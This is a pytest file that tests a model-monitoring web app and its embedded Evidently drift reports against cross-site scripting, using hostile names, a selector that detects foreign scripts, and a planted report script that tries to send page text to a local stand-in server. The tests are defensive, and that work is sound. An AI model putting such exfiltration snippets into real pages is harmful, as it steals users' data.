"""Hostile names and values on every page and in Evidently's report, in a real browser."""

import io
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pandas as pd
import pytest

from monitoring.presenter.links import model_path, report_path, rows_path, window_path
from monitoring.results import Alarm, AlarmStep, Note, Result, Score
from monitoring.scoring.drift.evidently_adapter import ColumnTest, write_report
from monitoring.web.app import app
from monitoring.web.server import serving
from tests.hostile_names import MARKUP, NAMES
from tests.monitoring.web.browser import Browser, browsing
from tests.monitoring.web.conftest import FakeStore, a_delivery, an_alarm, week
from tests.monitoring.web.test_web_in_a_browser import QUIET, chromium

pytestmark = pytest.mark.untraced

__all__ = ["chromium"]  # a fixture

EXECUTED = "String(window.pwned)"
FOREIGN = """document.querySelectorAll(
    `script:not([src="/static/live.js"], [src="/static/page.js"], [src="/static/filters.js"]),
    iframe:not(.report), base, meta[http-equiv],
    [onerror], [onload], [onfocus], [href^="javascript" i]`).length"""
DRAWN = """new Promise(done => {
    const look = () => document.body.innerText.includes('Drift') ? done(true) : setTimeout(look, 50)
    look() })"""
REPORT = "hostile.html"


@pytest.fixture(scope="module")
def columns() -> pd.DataFrame:
    """A window with a column for each name, whose categories are all names."""
    values = [name for name in NAMES.values() if name.strip()]
    return pd.DataFrame(dict.fromkeys(MARKUP.values(), values * 3))


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory, columns: pd.DataFrame) -> Path:
    """A folder with the report that Evidently makes of it."""
    folder = tmp_path_factory.mktemp("reports")
    tests = [ColumnTest(name, categorical=True, method="psi", threshold=0.1) for name in columns]
    write_report(tests, columns, columns.iloc[::2], folder / REPORT)
    return folder


def _results() -> Iterator[Result]:
    everything = list(NAMES.values())
    for place, name in enumerate(everything):
        drift = Score(name="drift", value=0.5, threshold=0.1, breached=True)
        scores = [
            msgspec.structs.replace(drift, column=one, method=one, note=one) for one in everything
        ]
        scores += [Score(name="rows", value=3.0, segment=f"{one}={one}") for one in everything]
        scores += [Score(name="failed", value=None, note=one) for one in everything[:3]]
        yield Result(
            model=name.replace("/", "") or "empty",
            version=name.replace("/", "") or "empty",
            window=week(place % 3),
            rows=3,
            sampled=3,
            labelled=3,
            verdict="drifted",
            scores=[*scores, Score(name="drifted_share", value=1.0, threshold=0.3, breached=True)],
            confusion={one: dict.fromkeys(everything, 1) for one in everything[:5]},
            report=REPORT,
        )


def _alarms(results: list[Result]) -> Iterator[Alarm]:
    for result, name in zip(results, NAMES.values(), strict=True):
        steps = [AlarmStep(week(1).start, "acknowledged", name, name)]
        yield msgspec.structs.replace(
            an_alarm(), alarm_id=name, model=result.model, version=result.version, steps=steps,
            columns=[name], sentence=name,
        )  # fmt: skip


@pytest.fixture(scope="module")
def store(columns: pd.DataFrame) -> FakeStore:
    results = list(_results())
    outbox = [a_delivery(name, attempts=3, last_error=name) for name in NAMES.values()]
    alarms = list(_alarms(results))
    notes = [
        Note(note_id=name, model=result.model, version=result.version, text=name, actor=name,
             created=1, **about)
        for result, name in zip(results, NAMES.values(), strict=True)
        for about in ({"start": result.window.start}, {"alarm_id": name})
    ]  # fmt: skip
    return FakeStore(
        all_results=results, all_alarms=alarms, outbox=outbox, frame=columns, written=notes
    )


@pytest.fixture(scope="module")
def page(store: FakeStore, reports: Path) -> Iterator[str]:
    with serving(app(lambda: store, reports), "127.0.0.1", 0) as address:
        yield address


@pytest.fixture(scope="module")
def browser(chromium: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browsing(chromium, QUIET, tmp_path_factory.mktemp("profile") / "it") as opened:
        yield opened


@pytest.fixture
def letterbox() -> Iterator[tuple[str, list[str]]]:
    """A server of another site, and the paths that were asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


def test_no_page_runs_logged_content(browser: Browser, page: str, store: FakeStore) -> None:
    paths = ["/", "/?q=%3Cscript%3E&sort=%22%3E%3Cscript%3E"]
    chosen = [result for result in store.all_results if result.model in MARKUP.values()]
    paths += [model_path(result.model, result.version) for result in chosen]
    last = store.all_results[1]
    paths.append(window_path(last.model, last.version, last.window.start))
    for path in paths:
        browser.show(page + path, 1280)
        assert browser.ask("document.querySelectorAll('h1').length") == 1, path
        assert (path, browser.ask(EXECUTED)) == (path, "undefined")
        assert (path, browser.ask(FOREIGN)) == (path, 0)
        assert browser.ask("location.origin") == page


def test_evidentlys_report_is_drawn_and_runs_only_its_own_script(
    browser: Browser, reports: Path
) -> None:
    """The file by itself, without our headers: its own policy and escaping hold."""
    browser.show((reports / REPORT).as_uri(), 1280)
    assert browser.ask(DRAWN)
    assert browser.ask(EXECUTED) == "undefined"
    assert browser.ask("location.protocol") == "file:"


def test_a_script_in_a_report_cannot_leave_its_frame(
    browser: Browser, page: str, reports: Path, letterbox: tuple[str, list[str]]
) -> None:
    """As if a report of an earlier release, without a policy of its own, ran what was logged."""
    address, asked = letterbox
    ways = (
        f"fetch('{address}/fetch').catch(() => 0);"
        f"new Image().src = '{address}/image';"
        f"window.open('{address}/window');"
        f"try {{ top.location = '{address}/top' }} catch {{}};"
        "document.body.innerHTML += '<meta http-equiv=refresh content=\"0;url="
        f"{address}/refresh\">';"
        "parent.postMessage('ran', '*');"
        f"location = '{address}/self?' + encodeURIComponent(document.body.innerText);"
    )
    (reports / "old.html").write_text(f"<body>secret<script>{ways}</script>")
    browser.show(page + report_path("old.html"), 1280)
    frame = "document.querySelector('iframe')"
    ran = f"new Promise(done => {{ onmessage = said => done(said.data); {frame}.src += '' }})"
    assert browser.ask(ran) == "ran"
    loaded = f"new Promise(done => {{ {frame}.onload = () => done(true); {frame}.src += '?' }})"
    assert browser.ask(loaded)
    assert browser.ask("location.pathname") == report_path("old.html")
    httpx.get(f"{address}/control", trust_env=False)
    assert asked == ["/control"]


def test_a_report_opened_directly_redirects_to_its_page(browser: Browser, page: str) -> None:
    browser.show(f"{page}/reports/content/{REPORT}", 1280)
    assert browser.ask("location.pathname") == report_path(REPORT)
    assert browser.ask("document.querySelectorAll('iframe.report').length") == 1


def test_the_rows_of_a_window_are_parquet_of_the_same_names_and_values(
    page: str, store: FakeStore, columns: pd.DataFrame
) -> None:
    result = store.all_results[0]
    path = rows_path(result.model, result.version, result.window.start)
    reply = httpx.get(page + path, trust_env=False)
    assert reply.headers["content-type"] == "application/vnd.apache.parquet"
    read = pd.read_parquet(io.BytesIO(reply.content))
    pd.testing.assert_frame_equal(read.astype(object), columns.astype(object))
